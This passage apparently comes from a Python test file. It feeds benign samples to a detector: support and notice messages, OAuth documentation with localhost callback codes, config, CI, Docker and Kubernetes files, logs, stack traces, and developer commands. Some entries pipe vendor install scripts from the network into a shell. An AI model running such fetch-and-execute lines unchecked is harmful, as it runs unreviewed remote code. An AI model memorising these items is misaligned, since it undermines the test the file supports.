    "Ticket #17902 update: we've reproduced the sync issue and a fix will ship in 4.17.2. No action needed on your side. Phone support: +1 555 017 4300.",
    "Hallo Frau Schulz, Ihr neues Diensthandy (Ticket 17-880) liegt zur Abholung bereit. Rückfragen: IT-Hotline 0555 017 1717.",
    "Notice from Building Management: the elevators in block B will be serviced on Monday. Questions: facilities desk (555) 017-1212.",
    "Your subscription to Weekly Gardening was renewed for 12 months at $29.00 as you requested. Manage or cancel any time in your account; phone (555) 017-6363.",
    "Welcome to the team, Marek! Your first-day checklist and laptop pickup details are attached. IT onboarding desk: +48 555 017 1800.",
    "Reminder: MFA re-registration opens on Monday. Use the Company Portal app only; IT will never call you to ask for a code. Questions: +1 (555) 017-1000.",
    "Dear parent, the winter concert starts at 18:00 in the main hall. Tickets at the door. School office: (555) 017-5050.",
    "Your parcel could not be delivered today. We'll try again tomorrow; you can also pick it up at the post office on Main St. Customer line: (555) 017-7400.",
    "Hej Erik,\n\ndin ärende 17-310 (skrivaren på plan 2) är löst. Frågor? Ring IT-supporten på +46 555 017 100.\n\nHälsningar, IT",
    "Dobrý den, váš požadavek 17-512 (přístup k VPN) byl vyřešen. Dotazy: helpdesk +420 555 017 100.",
    "Hyvä asiakas, tilauksesi 17-2041 on lähetetty. Asiakaspalvelu: +358 555 017 200.",
    "Αγαπητέ πελάτη, η παραγγελία σας 17-3310 απεστάλη. Εξυπηρέτηση πελατών: +30 555 017 300.",
    "안녕하세요, 문의하신 건(17-118)은 처리되었습니다. 추가 문의: 고객센터 02-555-0171",
    "Xin chào, đơn hàng 17-4412 của bạn đã được giao cho đơn vị vận chuyển. Hotline: +84 555 017 400.",
    "Hi Tom, just confirming our call tomorrow at 10:00 about the Q1 licence renewal. If you need to move it, ring me on (555) 017-2828. Cheers, Maria (Account Manager)",
    "Your GP surgery: flu vaccination clinics run every Saturday in December. Book online or call reception on (555) 017-3030.",
    "Thank you for registering for DevDays 17. Your badge will be at the front desk. Venue help line on the day: +31 555 017 1700.",
    "IT notice: the old VPN client will stop working on 31 January. The new one is already installed via Company Portal; nothing to do. Problems? +1 (555) 017-1000.",
]
for text in MAILS:
    ok(MAIL, UNK, None, text)

# --- OAuth / OIDC documentation with localhost redirects and code= -------------------------------------

OAUTH = "oauth-docs"
OAUTH_TEXTS = [
    (
        "https://www.rfc-editor.org/rfc/rfc8252",
        "http://127.0.0.1:51004/oauth2redirect/example-provider?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkj",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc7636",
        "code_challenge = BASE64URL-ENCODE(SHA256(ASCII(code_verifier)))\n&code_challenge_method=S256",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8628",
        "POST /device_authorization HTTP/1.1\nHost: server.example.com\nContent-Type: application/x-www-form-urlencoded\n\nclient_id=1406020730",
    ),
    (
        "https://docs.auth-platform17.example/quickstart/spa",
        "Allowed Callback URLs: http://localhost:5173/callback, https://app.shop17.example/callback",
    ),
    (
        "https://docs.auth-platform17.example/quickstart/cli",
        "The CLI opens your browser and listens on http://127.0.0.1:8085. After you sign in you'll be redirected to http://127.0.0.1:8085/?code=AUTH_CODE&state=STATE and the CLI exchanges the code.",
    ),
    (
        "https://docs.auth-platform17.example/errors/redirect-mismatch",
        "redirect_uri_mismatch: http://localhost:3000/api/auth/callback/google is not registered for client 1717-abc.apps.example",
    ),
    (
        "https://github.com/acme-example/oauth-demo17/blob/main/README.md",
        "1. Register an app with redirect URI `http://localhost:8080/login/oauth2/code/github`\n2. export CLIENT_ID=... CLIENT_SECRET=...\n3. ./gradlew bootRun and open http://localhost:8080",
    ),
    (
        "https://github.com/acme-example/oauth-demo17/blob/main/docs/flow.md",
        "GET http://localhost:8080/callback?code=4%2F0AbCD17&scope=email%20profile&authuser=0&prompt=consent",
    ),
    (
        "https://wiki.platform17.example/sso/okta",
        "Sign-in redirect URIs: http://localhost:8080/authorization-code/callback\nSign-out redirect URIs: http://localhost:8080",
    ),
    (
        "https://wiki.platform17.example/sso/entra",
        "App registration > Authentication > Mobile and desktop applications > add http://localhost (MSAL uses a random port on the loopback address).",
    ),
    (
        "https://wiki.platform17.example/sso/keycloak",
        "curl -s -X POST http://localhost:8180/realms/dev/protocol/openid-connect/token -d grant_type=authorization_code -d code=$CODE -d client_id=web -d redirect_uri=http://localhost:3000/cb",
    ),
    (
        "https://wiki.platform17.example/sso/debug",
        "If the page shows 'This site can't be reached' at http://localhost:8400/?code=... the local listener isn't running; restart the CLI and try `login` again.",
    ),
    (
        "https://docs.cli-tool17.example/auth",
        "$ tool17 auth login\nOpening browser to https://id.cli-tool17.example/authorize?...\nWaiting for callback on http://127.0.0.1:49152 ...\nLogged in as dev@corp17.example",
    ),
    (
        "https://docs.cli-tool17.example/auth/headless",
        "On a machine without a browser use the device flow: tool17 auth login --device\nThen open https://id.cli-tool17.example/device on another device and enter the code shown.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "In the device code flow the app shows a short user code and the verification address; the user completes sign-in on a second device while the app polls the token endpoint (interval from the response, usually 5 seconds).",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code --tenant contoso17.example --allow-no-subscriptions",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "gh auth login --web --scopes read:org,workflow --git-protocol ssh",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "aws configure sso --use-device-code",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth application-default revoke --quiet",
    ),
    (
        "https://docs.auth-platform17.example/pkce",
        "const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)));\nconst challenge = base64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)));",
    ),
    (
        "https://docs.auth-platform17.example/token-exchange",
        "POST /oauth/token\ngrant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&code_verifier=dBjftJeZ4CVP",
    ),
    (
        "https://docs.auth-platform17.example/spring",
        "spring.security.oauth2.client.registration.corp.redirect-uri={baseUrl}/login/oauth2/code/{registrationId}\nspring.security.oauth2.client.provider.corp.issuer-uri=https://id.corp17.example",
    ),
    (
        "https://docs.auth-platform17.example/nextauth",
        "NEXTAUTH_URL=http://localhost:3000\nAUTH_GITHUB_ID=Iv1.17abc\nAUTH_GITHUB_SECRET=changeme",
    ),
    (
        "https://docs.auth-platform17.example/python",
        "flow = InstalledAppFlow.from_client_secrets_file('client_secret.json', SCOPES)\ncreds = flow.run_local_server(port=0)",
    ),
    (
        "https://docs.auth-platform17.example/postman",
        "Callback URL: https://oauth.pstmn.io/v1/callback (or http://localhost:8080 when 'Authorize using browser' is off)",
    ),
    (
        "https://docs.auth-platform17.example/logs",
        "2026-12-07T08:12:03Z INFO callback received path=/callback code=[redacted] state=9f17 client=web",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17401/oauth-localhost-https",
        "Google allows http://localhost redirect URIs for testing; for other hosts you need https. Use http://localhost:8080/oauth2callback in the console.",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17402/invalid-grant",
        "invalid_grant usually means the code was already used or expired (codes live ~10 minutes). Don't reload http://localhost:3000/callback?code=...",
    ),
    (
        "https://wiki.platform17.example/sso/vscode",
        "VS Code signs in through vscode://vscode.github-authentication/did-authenticate?windowid=1&code=...&state=...; if the browser asks to open Visual Studio Code, allow it.",
    ),
    (
        "https://docs.auth-platform17.example/mobile",
        "Redirect URI for the iOS app: com.corp17.app:/oauth2redirect\nAndroid: com.corp17.app:/oauth2redirect (set in build.gradle manifestPlaceholders).",
    ),
    (
        "https://docs.auth-platform17.example/saml-vs-oidc",
        "With OIDC the browser returns to https://app.corp17.example/signin-oidc with an authorization code; the server exchanges it at the token endpoint.",
    ),
    (
        "https://wiki.platform17.example/sso/ca-policy",
        "Conditional Access: 'Block device code flow' applies to all users except the group CA-Exclude-DeviceCode (meeting-room devices).",
    ),
    (
        "https://docs.auth-platform17.example/cli-config",
        '[auth]\nissuer = "https://id.corp17.example"\nclient_id = "cli"\nredirect = "http://127.0.0.1:0/callback"',
    ),
]
for page, text in OAUTH_TEXTS:
    ok(OAUTH, UNK, page, text)

# --- Config, CI, Dockerfiles, Makefiles, crontab, logs, stack traces, lock files, history ---------------

CONFIG = "config-code"
GH = "https://github.com/acme-example17/"
CONFIG_TEXTS = [
    (
        GH + "api/blob/main/Dockerfile",
        "FROM python:3.13-slim-bookworm\nCOPY --from=ghcr.io/astral-sh/uv:0.5.11 /uv /uvx /bin/\nCOPY pyproject.toml uv.lock ./\nRUN uv sync --frozen --no-dev",
    ),
    (
        GH + "web/blob/main/Dockerfile",
        "FROM node:22-alpine AS build\nWORKDIR /app\nCOPY package.json pnpm-lock.yaml ./\nRUN corepack enable && pnpm install --frozen-lockfile\nCOPY . .\nRUN pnpm build",
    ),
    (
        GH + "worker/blob/main/Dockerfile",
        "FROM rust:1.83 AS builder\nWORKDIR /src\nCOPY . .\nRUN cargo build --release --locked\n\nFROM debian:bookworm-slim\nCOPY --from=builder /src/target/release/worker /usr/local/bin/",
    ),
    (
        GH + "infra/blob/main/Dockerfile.tools",
        'FROM ubuntu:24.04\nRUN apt-get update && apt-get install -y curl unzip && rm -rf /var/lib/apt/lists/*\nRUN curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o awscliv2.zip && unzip awscliv2.zip && ./aws/install',
    ),
    (
        GH + "ml/blob/main/Dockerfile",
        "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\nRUN curl -fsSL https://pixi.sh/install.sh | bash\nENV PATH=/root/.pixi/bin:$PATH",
    ),
    (
        GH + "api/blob/main/.github/workflows/ci.yml",
        "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync --all-extras\n      - run: uv run pytest -q",
    ),
    (
        GH + "web/blob/main/.github/workflows/deploy.yml",
        "on:\n  push:\n    branches: [main]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: actions/checkout@v4\n      - uses: aws-actions/configure-aws-credentials@v4\n        with:\n          role-to-assume: arn:aws:iam::123456789012:role/gha-deploy\n          aws-region: eu-west-1",
    ),
    (
        GH + "cli/blob/main/.github/workflows/release.yml",
        "      - name: Install cosign\n        uses: sigstore/cosign-installer@v3\n      - name: Sign\n        run: cosign sign-blob --yes dist/cli17_linux_amd64.tar.gz --output-signature dist/cli17.sig",
    ),
    (
        GH + "infra/blob/main/.gitlab-ci.yml",
        "terraform:plan:\n  image: hashicorp/terraform:1.9\n  script:\n    - terraform init -input=false\n    - terraform plan -input=false -out=plan.tfplan\n  artifacts:\n    paths: [plan.tfplan]",
    ),
    (
        GH + "infra/blob/main/.gitlab-ci.yml#L40",
        "install_tools:\n  script:\n    - curl -sSfL https://raw.githubusercontent.com/anchore/grype/main/install.sh | sh -s -- -b /usr/local/bin\n    - grype dir:. --fail-on high",
    ),
    (
        GH + "app/blob/main/azure-pipelines.yml",
        "pool:\n  vmImage: windows-latest\nsteps:\n- task: UseDotNet@2\n  inputs:\n    version: '8.x'\n- script: dotnet test --configuration Release --logger trx",
    ),
    (
        GH + "app/blob/main/bitbucket-pipelines.yml",
        "pipelines:\n  default:\n    - step:\n        image: node:22\n        caches: [node]\n        script:\n          - npm ci\n          - npm test",
    ),
    (
        GH + "tools/blob/main/Makefile",
        "setup:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.62.2\n\ngo-lint:\n\tgolangci-lint run ./...",
    ),
    (
        GH + "web/blob/main/Makefile",
        ".PHONY: dev test\ndev:\n\tdocker compose up -d db\n\tnpm run dev\n\ntest:\n\tnpm test -- --coverage",
    ),
    (
        GH + "api/blob/main/justfile",
        "default:\n    just --list\n\nlint:\n    uv run ruff check .\n    uv run mypy src",
    ),
    (
        GH + "api/blob/main/compose.yaml",
        'services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    ports: ["5432:5432"]\n  redis:\n    image: redis:7-alpine',
    ),
    (
        GH + "infra/blob/main/k8s/deployment.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/acme-example17/api:1.17.0\n          ports:\n            - containerPort: 8000",
    ),
    (
        GH + "infra/blob/main/k8s/cronjob.yaml",
        'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: nightly-report\nspec:\n  schedule: "30 2 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: report\n              image: ghcr.io/acme-example17/report:2.3\n          restartPolicy: OnFailure',
    ),
    (
        GH + "infra/blob/main/terraform/main.tf",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "corp17-logs-eu-west-1"\n}\n\nresource "aws_s3_bucket_versioning" "logs" {\n  bucket = aws_s3_bucket.logs.id\n  versioning_configuration { status = "Enabled" }\n}',
    ),
    (
        GH + "infra/blob/main/ansible/roles/base/tasks/main.yml",
        "- name: Install base packages\n  ansible.builtin.apt:\n    name: [curl, htop, unattended-upgrades]\n    state: present\n    update_cache: true",
    ),
    (
        GH + "infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackage_update: true\npackages: [docker.io, fail2ban]\nruncmd:\n  - systemctl enable --now docker\n  - usermod -aG docker ubuntu",
    ),
    (
        GH + "infra/blob/main/packer/ubuntu.pkr.hcl",
        'build {\n  sources = ["source.amazon-ebs.ubuntu"]\n  provisioner "shell" {\n    inline = ["sudo apt-get update", "sudo apt-get install -y nginx"]\n  }\n}',
    ),
    (
        GH + "infra/blob/main/Vagrantfile",
        'Vagrant.configure("2") do |config|\n  config.vm.box = "bento/ubuntu-24.04"\n  config.vm.provision "shell", inline: "apt-get update && apt-get install -y docker.io"\nend',
    ),
    (
        GH + "dotfiles/blob/main/.zshrc",
        'export EDITOR=nvim\neval "$(starship init zsh)"\neval "$(zoxide init zsh)"\nsource <(fzf --zsh)',
    ),
    (
        GH + "dotfiles/blob/main/.gitconfig",
        "[user]\n\tname = Dev Seventeen\n\temail = dev17@corp17.example\n[pull]\n\trebase = true\n[core]\n\tpager = delta",
    ),
    (
        GH + "dotfiles/blob/main/Brewfile",
        'tap "homebrew/bundle"\nbrew "git"\nbrew "jq"\nbrew "ripgrep"\ncask "visual-studio-code"\ncask "rectangle"',
    ),
    (
        GH + "dotfiles/blob/main/install.sh",
        '#!/usr/bin/env bash\nset -euo pipefail\nfor f in .zshrc .gitconfig .tmux.conf; do\n  ln -sf "$PWD/$f" "$HOME/$f"\ndone',
    ),
    (
        GH + "dotfiles/blob/main/profile.ps1",
        'Import-Module posh-git\nSet-PSReadLineOption -PredictionSource History\noh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\\jandedobbeleer.omp.json" | Invoke-Expression',
    ),
    (
        GH + "api/blob/main/pyproject.toml",
        '[project]\nname = "api17"\nversion = "1.17.0"\nrequires-python = ">=3.11"\ndependencies = ["fastapi>=0.115", "sqlalchemy>=2.0", "httpx"]',
    ),
    (
        GH + "web/blob/main/package.json",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc -b && vite build",\n    "test": "vitest run",\n    "prepare": "husky"\n  }\n}',
    ),
    (
        GH + "web/blob/main/.npmrc",
        "@acme-example17:registry=https://npm.pkg.github.com\nengine-strict=true\nsave-exact=true",
    ),
    (
        GH + "api/blob/main/uv.lock",
        '[[package]]\nname = "httpx"\nversion = "0.28.1"\nsource = { registry = "https://pypi.org/simple" }\ndependencies = [\n    { name = "anyio" },\n    { name = "certifi" },\n]',
    ),
    (
        GH + "web/blob/main/pnpm-lock.yaml",
        "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      react:\n        specifier: ^19.0.0\n        version: 19.0.0",
    ),
    (
        GH + "worker/blob/main/Cargo.toml",
        '[package]\nname = "worker17"\nversion = "0.17.0"\nedition = "2021"\n\n[dependencies]\ntokio = { version = "1", features = ["full"] }\nreqwest = { version = "0.12", default-features = false, features = ["rustls-tls"] }',
    ),
    (
        GH + "svc/blob/main/go.mod",
        "module github.com/acme-example17/svc\n\ngo 1.23\n\nrequire (\n\tgithub.com/go-chi/chi/v5 v5.1.0\n\tgithub.com/jackc/pgx/v5 v5.7.1\n)",
    ),
    (
        GH + "app/blob/main/.env.example",
        "DATABASE_URL=postgres://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nSENTRY_DSN=\nLOG_LEVEL=info",
    ),
    (
        GH + "app/blob/main/.pre-commit-config.yaml",
        "repos:\n  - repo: local\n    hooks:\n      - id: api17-lint\n        name: api17 lint\n        entry: uv run ruff check --fix\n        language: system\n        types: [python]",
    ),
    (
        GH + "app/blob/main/renovate.json",
        '{\n  "extends": ["config:recommended"],\n  "schedule": ["before 6am on monday"],\n  "packageRules": [{"matchUpdateTypes": ["minor", "patch"], "automerge": true}]\n}',
    ),
    (
        GH + "infra/blob/main/nginx/site.conf",
        "upstream api17 { server 127.0.0.1:8000; keepalive 16; }\nserver {\n    listen 443 ssl;\n    server_name app.corp17.example;\n    location / {\n        proxy_pass http://127.0.0.1:8000;\n        proxy_set_header Host $host;\n    }\n}",
    ),
    (
        GH + "infra/blob/main/Caddyfile",
        "app.corp17.example {\n\treverse_proxy localhost:8000\n\tencode zstd gzip\n}",
    ),
    (
        GH + "infra/blob/main/systemd/app.service",
        "[Unit]\nDescription=App17 API\nAfter=network-online.target\n\n[Service]\nUser=app\nExecStart=/opt/app/.venv/bin/uvicorn app.main:app --host 127.0.0.1 --port 8000\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://wiki.infra-ops17.example/cron/backup",
        "# m h dom mon dow command\n15 1 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n0 4 * * 0 /usr/bin/certbot renew --quiet",
    ),
    (
        "https://wiki.infra-ops17.example/cron/cleanup",
        "*/30 * * * * find /var/app/tmp -type f -mmin +120 -delete",
    ),
    (
        "https://wiki.infra-ops17.example/logs/nginx",
        '203.0.113.77 - - [07/Dec/2026:08:01:12 +0000] "GET /api/v2/orders?page=3 HTTP/2.0" 200 5123 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
    ),
    (
        "https://wiki.infra-ops17.example/logs/app",
        "2026-12-07 08:03:41,221 ERROR [worker-3] app.jobs.export: export failed for tenant=17 (TimeoutError: read timed out after 30s); retry 2/5 in 60s",
    ),
    (
        "https://wiki.infra-ops17.example/logs/sshd",
        "Dec  7 07:58:02 bastion17 sshd[23117]: Accepted publickey for deploy from 10.17.2.14 port 51822 ssh2: ED25519 SHA256:Yx17abc",
    ),
    (
        "https://wiki.infra-ops17.example/logs/windows",
        "Log Name: Application\nSource: MsiInstaller\nEvent ID: 11707\nDescription: Product: 7-Zip 24.09 (x64 edition) -- Installation completed successfully.",
    ),
    (
        "https://wiki.infra-ops17.example/logs/k8s",
        "Warning  BackOff  2m (x17 over 10m)  kubelet  Back-off restarting failed container api in pod api-7f9c6d8b5-x2k4q_payments",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17501/python-traceback",
        'Traceback (most recent call last):\n  File "/app/main.py", line 17, in <module>\n    main()\n  File "/app/main.py", line 12, in main\n    data = json.loads(resp.text)\njson.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17502/java-npe",
        'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.corp17.App.greet(App.java:17)\n\tat com.corp17.App.main(App.java:9)',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17503/node-err",
        "node:internal/modules/cjs/loader:1228\n  throw err;\n  ^\nError: Cannot find module 'express'\nRequire stack:\n- /srv/app/server.js",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17504/dotnet-exception",
        "System.InvalidOperationException: Unable to resolve service for type 'IOrderRepository' while attempting to activate 'OrdersController'.\n   at Microsoft.Extensions.DependencyInjection.ActivatorUtilities.GetService(...)",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17505/go-panic",
        "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.main()\n\t/src/main.go:17 +0x1d",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17506/rust-error",
        "error[E0382]: borrow of moved value: `config`\n  --> src/main.rs:17:20\n   |\n12 |     let handle = spawn(config);\n   |                        ------ value moved here",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17507/powershell-error",
        "Invoke-WebRequest : The request was aborted: Could not create SSL/TLS secure channel.\nAt line:1 char:1\n+ Invoke-WebRequest -Uri https://intranet.corp17.example/api/health",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17508/bash-history",
        "  501  cd ~/src/api\n  502  git pull --rebase\n  503  uv sync\n  504  uv run pytest -k orders -x\n  505  git push",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17509/ps-history",
        "Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String -Pattern 'Connect-' | Select-Object -Last 10",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17510/ssh-config",
        "Host bastion17\n  HostName 203.0.113.10\n  User deploy\n  IdentityFile ~/.ssh/id_ed25519_corp\nHost app-*\n  ProxyJump bastion17",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17511/hosts-file",
        "# C:\\Windows\\System32\\drivers\\etc\\hosts\n127.0.0.1 api.local.test\n10.17.0.5 intranet.corp17.example",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17512/registry-export",
        'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Policies\\Microsoft\\Office\\16.0\\Outlook\\Options\\Mail]\n"JunkMailEnableLinks"=dword:00000000',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17513/gpo-admx",
        "Computer Configuration\\Administrative Templates\\System\\Logon\\Do not display the Getting Started welcome screen at logon = Enabled",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17514/sql",
        "SELECT customer_id, COUNT(*) AS orders, SUM(total) AS revenue\nFROM orders\nWHERE created_at >= now() - interval '30 days'\nGROUP BY customer_id\nORDER BY revenue DESC\nLIMIT 20;",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17515/regex",
        "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*)@corp17\\.example$",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17516/jq",
        "kubectl get pods -o json | jq -r '.items[] | select(.status.phase != \"Running\") | .metadata.name'",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17517/awk",
        "awk -F',' 'NR>1 {sum[$3]+=$5} END {for (k in sum) printf \"%s\\t%.2f\\n\", k, sum[k]}' sales.csv | sort -k2 -nr",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17518/sed",
        "sed -i.bak -E 's/^(PermitRootLogin).*/\\1 no/' /etc/ssh/sshd_config",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17519/xargs",
        "git ls-files '*.py' | xargs -n 50 -P 4 uv run ruff check --fix",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17520/docker-healthcheck",
        "HEALTHCHECK --interval=30s --timeout=3s CMD curl -fsS http://localhost:8000/health || exit 1",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17521/powershell-profile",
        "if (!(Test-Path -Path $PROFILE)) { New-Item -ItemType File -Path $PROFILE -Force }\nnotepad $PROFILE",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17522/winget-export",
        "winget export -o C:\\Temp\\apps.json --include-versions\nwinget import -i C:\\Temp\\apps.json --accept-package-agreements",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17523/choco-config",
        "choco config set cacheLocation C:\\ProgramData\\chococache\nchoco feature enable -n allowGlobalConfirmation",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17524/pip-conf",
        "[global]\nindex-url = https://pypi.corp17.example/simple\ntrusted-host = pypi.corp17.example\ntimeout = 60",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17525/yarnrc",
        'nodeLinker: node-modules\nnpmRegistryServer: "https://npm.corp17.example"\nenableTelemetry: false',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17526/gradle",
        "plugins {\n    id 'org.springframework.boot' version '3.4.0'\n    id 'io.spring.dependency-management' version '1.1.6'\n    id 'java'\n}",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17527/maven-settings",
        "<mirror>\n  <id>corp17</id>\n  <mirrorOf>*</mirrorOf>\n  <url>https://maven.corp17.example/repository/maven-public/</url>\n</mirror>",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17528/nuget-config",
        '<packageSources>\n  <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />\n  <add key="corp17" value="https://nuget.corp17.example/v3/index.json" />\n</packageSources>',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17529/intune-json",
        '{\n  "@odata.type": "#microsoft.graph.win32LobApp",\n  "displayName": "Zoom Workplace",\n  "installCommandLine": "msiexec /i ZoomInstallerFull.msi /qn ZoomAutoUpdate=1",\n  "uninstallCommandLine": "msiexec /x {GUID} /qn"\n}',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17530/sccm-detection",
        "Detection method: File C:\\Program Files\\7-Zip\\7z.exe exists, version greater than or equal to 24.09",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17531/wsl-conf",
        "[boot]\nsystemd=true\n[interop]\nappendWindowsPath=false",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17532/vscode-settings",
        '{\n  "editor.formatOnSave": true,\n  "python.defaultInterpreterPath": ".venv/bin/python",\n  "files.exclude": {"**/__pycache__": true}\n}',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17533/launch-json",
        '{\n  "type": "node",\n  "request": "launch",\n  "name": "Debug server",\n  "program": "${workspaceFolder}/server.js",\n  "env": {"PORT": "3000"}\n}',
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17534/tmux-conf",
        "set -g mouse on\nset -g history-limit 100000\nbind r source-file ~/.tmux.conf \\; display 'reloaded'",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17535/launchd-plist",
        "<key>Label</key><string>com.corp17.backup</string>\n<key>ProgramArguments</key><array><string>/usr/local/bin/restic</string><string>backup</string><string>/Users/dev/Documents</string></array>\n<key>StartInterval</key><integer>3600</integer>",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17536/fstab",
        "//nas17.home.example/media /mnt/media cifs credentials=/root/.smbcred,uid=1000,gid=1000,iocharset=utf8 0 0",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17537/netplan",
        "network:\n  version: 2\n  ethernets:\n    eth0:\n      addresses: [10.17.1.20/24]\n      routes:\n        - to: default\n          via: 10.17.1.1\n      nameservers:\n        addresses: [10.17.1.2]",
    ),
    (
        "https://qa.webdev-exchange17.example/questions/17538/prometheus",
        '- alert: HighErrorRate\n  expr: sum(rate(http_requests_total{status=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) > 0.05\n  for: 10m\n  labels:\n    severity: page',
    ),
]
for page, text in CONFIG_TEXTS:
    ok(
        CONFIG,
        TERM
        if not text.startswith(("Traceback", "Exception", "node:", "System.", "panic", "error["))
        else UNK,
        page,
        text,
    )

# --- Developer one-liners --------------------------------------------------------------------------------

DEV = "dev-command"
DEV_TEXTS = [
    "git clone --filter=blob:none git@gitlab.corp17.example:payments/api17.git && cd api17 && uv sync --locked",
    "git rebase -i HEAD~5",
    "git log --oneline --graph --decorate -20",
    "git bisect start && git bisect bad && git bisect good v1.16.0",
    "git worktree add ../api-hotfix hotfix/1.17.1",
    "git config --global init.defaultBranch main",
    "git stash list --date=relative",
    "git cherry-pick -x 4e17abc",
    "python -m venv .venv && . .venv/bin/activate && pip install -e '.[dev]'",
    "python3 -m http.server 8817 --directory site/ --bind 127.0.0.1",
    "uv run --with rich python -c \"import rich; rich.print('[bold green]ok')\"",
    "pytest -q -x --lf -k 'not slow'",
    "python -m cProfile -o out.prof app.py && snakeviz out.prof",
    "npm ci && npm run build && npx serve dist",
    "npx tsc --noEmit -p tsconfig.json",
    "npx eslint . --fix --max-warnings 0",
    "pnpm -r --filter './packages/**' test",
    "node --inspect-brk server.js",
    "cargo test --workspace -- --nocapture",
    "cargo clippy --all-targets -- -D warnings",
    "go test ./... -race -count=1",
    "go mod tidy && go vet ./...",
    "dotnet new webapi -n Orders17.Api && dotnet run --project Orders17.Api",
    "dotnet ef migrations add AddInvoiceTable && dotnet ef database update",
    "./gradlew clean build -x test",
    "mvn -q -DskipTests package && java -jar target/app17.jar",
    "docker build -t app17:dev . && docker run --rm -p 8000:8000 app17:dev",
    'docker run --rm -it -v "$PWD":/work -w /work python:3.12 bash',
    "docker exec -it app17-db psql -U app -d app",
    "psql \"postgresql://app@localhost:5432/app\" -c '\\dt'",
    "redis-cli -h localhost -p 6379 INFO memory",
    "curl -s http://127.0.0.1:8817/api/v2/health | jq -r .checks.db.status",
    'curl -sS -X PATCH http://127.0.0.1:8817/api/orders/17 -H \'Content-Type: application/json\' -d \'{"sku":"A17","qty":2}\'',
    "curl -I https://www.corp17.example",
    "ssh -L 5433:db17.internal:5432 bastion17",
